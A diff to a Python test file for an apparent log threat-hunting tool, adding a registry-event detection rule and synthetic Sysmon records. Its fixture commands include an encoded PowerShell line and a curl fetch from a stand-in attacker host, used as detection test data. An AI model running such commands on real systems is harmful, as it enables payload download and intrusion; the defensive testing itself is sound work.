@@ -25,6 +25,14 @@ detection:
   keywords: [rareword]
   condition: keywords
 """,
+    "keys.yml": """title: A key, of the second kind that its records have
+id: 11111111-0000-4000-8000-000000000007
+level: low
+logsource: {product: windows, category: registry_event}
+detection:
+  selection: {Details|contains: 'enc'}
+  condition: selection
+""",
     "often.yml": """title: Failed
 id: 11111111-0000-4000-8000-000000000003
 name: failed
@@ -51,11 +59,14 @@ COMMANDS = ["powershell -enc AAAA", "echo rareword", "fail 1", "fail 2", "fail 3
             "curl http://a.evil.example/x", "curl http://old.example/x", "x planted-bytes y", "open Global\\odd", "first step", "second step", "dir", "dir", "dir"]
 
 
-def record(dice):
+def record(dice, log):
+    """Of processes; in each tenant's last log of registry keys."""
+    kind = ({"EventID": 13, "TargetObject": "HKLM\\Software\\k", "EventType": "SetValue", "Details": dice.choice(COMMANDS)} if log.name == "2.jsonl" else
+            {"EventID": 1, "CommandLine": dice.choice(COMMANDS)})
     minute = dice.randrange(60 * 24 * 3)
-    return json.dumps({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon",
+    return json.dumps({**kind, "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon",
                        "@timestamp": f"2017-03-{1 + minute // 1440:02}T{minute // 60 % 24:02}:{minute % 60:02}:{dice.randrange(60):02}Z",
-                       "Image": "C:\\Windows\\System32\\cmd.exe", "User": f"u{dice.randrange(2)}", "CommandLine": dice.choice(COMMANDS), "n": dice.randrange(10**6)})
+                       "Image": "C:\\Windows\\System32\\cmd.exe", "User": f"u{dice.randrange(2)}", "n": dice.randrange(10**6)})
 
 
 def names(rows):
@@ -73,7 +84,7 @@ class World:
         self.logs = {tenant: [root / tenant / f"{i}.jsonl" for i in range(3)] for tenant in ("alpha", "beta")}
         for log in sum(self.logs.values(), []):
             log.parent.mkdir(exist_ok=True)
-            log.write_text("".join(record(dice) + "\n" for _ in range(dice.randrange(1, 40))))
+            log.write_text("".join(record(dice, log) + "\n" for _ in range(dice.randrange(1, 40))))
         self.intel = root / "intel"
         self.intel.mkdir()
         self.left = sorted(RULES)
@@ -87,9 +98,9 @@ class World:
             self.ingest(tenant, log)
         elif what == "grow":
             with log.open("a") as file:
-                file.write("".join(record(self.dice) + "\n" for _ in range(self.dice.randrange(1, 20))))
+                file.write("".join(record(self.dice, log) + "\n" for _ in range(self.dice.randrange(1, 20))))
         elif what == "cut":  # written so far: the last line is not whole yet, or has no end of line
-            line = record(self.dice)
+            line = record(self.dice, log)
             text = log.read_text()
             log.write_text(text + line[:len(line) - self.dice.choice([0, 0, 9])])
             self.ingest(tenant, log, cut=True)
@@ -157,7 +168,7 @@ def hunted(empty_case, tmp_path):
     """A case with one log, three rules and a list, hunted once."""
     log = tmp_path / "a.jsonl"
     dice = random.Random(7)
-    log.write_text("".join(record(dice) + "\n" for _ in range(60)))
+    log.write_text("".join(record(dice, log) + "\n" for _ in range(60)))
     assert run("ingest", log, "--tenant", "alpha").status == 0
     for name in ("encoded.yml", "often.yml", "list.csv"):
         (tmp_path / name).write_text(RULES[name])
@@ -184,6 +195,21 @@ def test_a_new_list_is_answered_from_the_index(hunted, tmp_path):
     assert "0 read, 1 answered from the index" in done.err
 
 
+def test_a_new_rule_reads_no_log_of_another_kind(hunted, tmp_path):
+    keys = tmp_path / "2.jsonl"
+    keys.write_text(json.dumps({**json.loads(record(random.Random(1), keys)), "Details": "enc"}) + "\n")
+    assert run("ingest", keys, "--tenant", "alpha").status == 0 and run("hunt", "--case").status == 0
+    (tmp_path / "keys.yml").write_text(RULES["keys.yml"])
+    assert run("intel", "add", tmp_path / "keys.yml").status == 0
+    hunted.rename(tmp_path / "away")  # not needed, for the catalogue knows that it holds no keys
+    done = run("hunt", "--case", "--new")
+    assert done.rows and "1 read, 1 answered from the index" in done.err
+    # Own mappings tell what the catalogue does not know.
+    (tmp_path / "own").mkdir()
+    other = run("hunt", "--case", "--intel", tmp_path / "keys.yml", "--mappings", tmp_path / "own", "--tz", "+01:00", "--errors", "json")
+    assert other.status == 3 and "BT0932" in other.codes
+
+
 def test_what_cannot_be_looked_at_is_told_and_looked_at_later(hunted, tmp_path):
     (tmp_path / "words.yml").write_text(RULES["words.yml"])
     assert run("intel", "add", tmp_path / "words.yml").status == 0
@@ -196,7 +222,7 @@ def test_what_cannot_be_looked_at_is_told_and_looked_at_later(hunted, tmp_path):
     assert changed.status == 3 and "BT0933" in changed.codes and changed.rows == []
     away.rename(hunted)
     with hunted.open("a") as file:
-        file.write(record(random.Random(1)) + "\n")
+        file.write(record(random.Random(1), Path("1.jsonl")) + "\n")
     grown = run("hunt", "--case", "--new", "--errors", "json")
     assert grown.status == 0 and "BT0946" in grown.codes and grown.rows
 
@@ -218,7 +244,7 @@ def test_what_a_log_held_before_its_beginning_changed_is_not_new(empty_case, rul
 
 
 def failed(minute):
-    line = json.loads(record(random.Random(1)))
+    line = json.loads(record(random.Random(1), Path("1.jsonl")))
     return json.dumps({**line, "User": "eve", "CommandLine": "fail", "@timestamp": f"2017-03-01T10:{minute:02}:00Z"}) + "\n"
 
 
@@ -308,7 +334,7 @@ def test_logs_that_rotate_away_between_hunts_count_as_if_they_were_there(empty_c
         run("intel", "add", tmp_path / name)
     logs = [tmp_path / "logs" / f"{i}.jsonl" for i in range(6)]
     logs[0].parent.mkdir()
-    texts = {log: "".join(record(dice) + "\n" for _ in range(30)) for log in logs}
+    texts = {log: "".join(record(dice, log) + "\n" for _ in range(30)) for log in logs}
     for log in logs:
         cut = texts[log].index("\n", len(texts[log]) // 2) + 1
         for text in dice.choice([(texts[log],), (texts[log][:cut], texts[log])]):  # some grow
@@ -347,7 +373,7 @@ def test_a_correlation_that_grows_takes_its_own_place(empty_case, tmp_path):
 def test_the_same_bytes_at_two_tenants_are_evidence_of_each(empty_case, tmp_path):
     (tmp_path / "encoded.yml").write_text(RULES["encoded.yml"])
     run("intel", "add", tmp_path / "encoded.yml")
-    line = json.dumps({**json.loads(record(random.Random(1))), "CommandLine": "x -enc y"}) + "\n"
+    line = json.dumps({**json.loads(record(random.Random(1), Path("1.jsonl"))), "CommandLine": "x -enc y"}) + "\n"
     for tenant in ("alpha", "beta"):
         (tmp_path / f"{tenant}.jsonl").write_text(line)
         run("ingest", tmp_path / f"{tenant}.jsonl", "--tenant", tenant)
